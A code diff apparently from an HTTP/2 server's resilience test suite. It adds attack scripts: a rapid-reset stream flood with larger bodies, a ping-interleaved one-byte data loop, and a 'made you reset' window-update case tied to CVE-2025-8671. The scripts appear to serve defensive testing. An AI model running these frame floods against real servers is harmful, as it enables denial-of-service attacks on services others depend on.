@@ -68,6 +68,23 @@ def rapid_reset_of_bodies(c):
         yield b"".join(headers(s, POST, end=False) + data(s, b"x") + rst_stream(s, CANCEL) for s in c.streams(50))
 
 
+@an_attack("rapid-reset", asks=True)
+def rapid_reset_of_larger_bodies(c):
+    """What is taken back at once is nothing useful, however much of it there was."""
+    while True:
+        yield b"".join(headers(s, POST, end=False) + data(s, bytes(100)) * 3 + rst_stream(s, CANCEL)
+                       for s in c.streams(50))
+
+
+@an_attack("ping", "settings")
+def pings_between_data(c):
+    """A body of single octets buys no pings."""
+    stream, = c.streams()
+    yield headers(stream, POST, end=False)
+    while True:
+        yield (data(stream, b"x") + ping() * 2) * 50
+
+
 def made_you_reset(name, frames, head=GET, end=True, also=()):
     """CVE-2025-8671: a request, and then what makes the server itself reset the stream."""
     def script(c):
@@ -80,6 +97,8 @@ def made_you_reset(name, frames, head=GET, end=True, also=()):
 
 made_you_reset("window_update_of_zero", lambda s: window_update(s, 0), also=[PROTOCOL_ERROR])
 made_you_reset("window_update_too_far", lambda s: window_update(s, MAX_WINDOW), also=[FLOW_CONTROL_ERROR])
+made_you_reset("window_update_too_far_after_a_body", lambda s: data(s, bytes(100)) * 3 + window_update(s, MAX_WINDOW),
+               head=POST, end=False, also=[FLOW_CONTROL_ERROR])
 made_you_reset("data_after_the_end", lambda s: data(s, b"x"), also=[STREAM_CLOSED])
 made_you_reset("headers_after_the_end", lambda s: headers(s, GET), also=[STREAM_CLOSED])
 made_you_reset("priority_of_a_wrong_length", lambda s: frame(PRIORITY, 0, s, bytes(4)), also=[FRAME_SIZE_ERROR])
